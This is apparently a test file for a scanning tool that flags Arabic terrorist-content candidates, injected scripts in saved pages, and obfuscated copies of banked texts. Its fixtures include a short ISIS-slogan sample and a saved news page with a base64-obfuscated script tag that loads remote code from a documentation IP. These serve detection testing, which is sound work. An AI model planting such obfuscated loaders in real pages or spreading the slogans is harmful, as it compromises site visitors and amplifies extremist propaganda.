"""`raqib scan` over texts, posts and saved pages: findings carry `text` and `page`, raw_text
bank entries match obfuscated copies, and the HTML report highlights spans right to left."""

from __future__ import annotations

import base64
import json
from pathlib import Path

from conftest import Cli

NEWS = (
    'قال مسؤولون إن تنظيم داعش فقد مواقع جديدة، وإن شعار "باقية وتتمدد" لم يعد يظهر إلا نادرا، '
    "بحسب تقرير لباحثين."
)
SKELETON = "وكالة أعماق: الدولة الإسلامية — ⟦PLACEHOLDER-STATEMENT-2⟧ باقية وتتمدد"
PARAGRAPH = (
    "أعلنت هيئة الأرصاد الجوية أن درجات الحرارة ستنخفض تدريجيا خلال عطلة نهاية الأسبوع، مع "
    "احتمال هطول أمطار خفيفة على المناطق الساحلية، ونصحت السائقين بتوخي الحذر على الطرق "
    "السريعة، فيما أكدت وزارة النقل أن القطارات ستعمل وفق جدولها المعتاد دون أي تغيير."
)
LOADER_CODE = b"document.write('<script src=\"http://192.0.2.7/loader.js\"></script>')"
LOADER_B64 = base64.b64encode(LOADER_CODE).decode()
LOADER = f'<script src="data:text/javascript;base64,{LOADER_B64}"></script>'
LOADER_PAGE = f"""<!doctype html><html><head><title>Local news</title>
{LOADER}
</head><body><article><h1>Markets</h1><p>The markets closed slightly higher on Tuesday after a
quiet session, traders said, with transport shares leading the gains.</p></article></body></html>
"""


def _scan(cli: Cli, folder: str) -> list[dict[str, object]]:
    result = cli("scan", folder, "--json", "--report", "report.html", "-o", "f.jsonl")
    assert result.code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]


def _by_path(findings: list[dict[str, object]]) -> dict[str, dict[str, object]]:
    return {Path(str(f["item"]["path"])).name: f for f in findings}  # type: ignore[index]


def test_scan_assesses_texts_posts_and_pages(cli: Cli, tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "news.txt").write_text(NEWS, encoding="utf-8")
    (corpus / "statement.md").write_text(SKELETON, encoding="utf-8")
    posts = [
        {"id": "p1", "text": "الطقس معتدل اليوم", "author": "placeholder_a"},
        {"id": "p2", "text": SKELETON, "author": "placeholder_b", "date": "2026-02-03"},
    ]
    (corpus / "posts.jsonl").write_text(
        "\n".join(json.dumps(p, ensure_ascii=False) for p in posts) + "\n{broken\n",
        encoding="utf-8",
    )
    (corpus / "page.html").write_text(LOADER_PAGE, encoding="utf-8")
    (corpus / "bad.txt").write_bytes(b"weather \xff\xfe report")

    found = _by_path(_scan(cli, "corpus"))
    assert found["news.txt"]["text"]["context"] == "news_or_research"  # type: ignore[index]
    statement = found["statement.md"]
    assert statement["text"]["context"] == "terrorist_content_candidate"  # type: ignore[index]
    assert statement["verdict"]["recommended"] == "review"  # type: ignore[index]
    assert found["posts.jsonl#L1"]["text"]["context"] == "unrelated"  # type: ignore[index]
    second = found["posts.jsonl#L2"]
    assert second["item"]["external_id"] == "p2"  # type: ignore[index]
    assert second["item"]["author"] == "placeholder_b"  # type: ignore[index]
    assert second["text"]["context"] == "terrorist_content_candidate"  # type: ignore[index]
    assert found["posts.jsonl#L3"]["errors"]
    page = found["page.html"]["page"]["injected_scripts"]  # type: ignore[index]
    iocs = {i["value"] for script in page for i in script["iocs"]}
    assert "http://192.0.2.7/loader.js" in iocs and "192.0.2.7" in iocs
    assert found["page.html"]["verdict"]["recommended"] == "review"  # type: ignore[index]
    bad = found["bad.txt"]
    assert bad["errors"][0]["stage"] == "decode"  # type: ignore[index]
    assert bad["text"]["context"] == "unrelated"  # type: ignore[index]

    report = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert '<p class="excerpt" dir="auto">' in report
    assert '<mark title="entity: داعش">داعش</mark>' in report
    assert "http://192.0.2.7/loader.js" in report
    assert "<script" not in report.split("</style>", 1)[1].replace("&lt;script", "")


def test_raw_text_bank_entries_match_obfuscated_and_edited_copies(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "list.te").write_text(f"raw_text {PARAGRAPH}\n", encoding="utf-8")
    result = cli("bank", "create", "texts")
    assert result.code == 0, result.stderr
    imported = cli("bank", "import", "texts", "list.te")
    assert imported.code == 0, imported.stderr
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    obfuscated = PARAGRAPH.replace("الحرارة", "الحـــرارة").replace("الأمطار", "ال\u200bأمطار")
    (corpus / "copy.txt").write_text(obfuscated, encoding="utf-8")
    edited = PARAGRAPH.replace("خفيفة", "متوسطة").replace("المعتاد", "الجديد")
    (corpus / "edited.txt").write_text(edited, encoding="utf-8")
    (corpus / "other.txt").write_text(NEWS, encoding="utf-8")

    found = _by_path(_scan(cli, "corpus"))
    copy_types = {m["signal_type"] for m in found["copy.txt"]["matches"]}  # type: ignore[index]
    assert copy_types == {"text_sha256", "text_minhash"}
    edited_types = {m["signal_type"] for m in found["edited.txt"]["matches"]}  # type: ignore[index]
    assert edited_types == {"text_minhash"}
    assert found["other.txt"]["matches"] == []
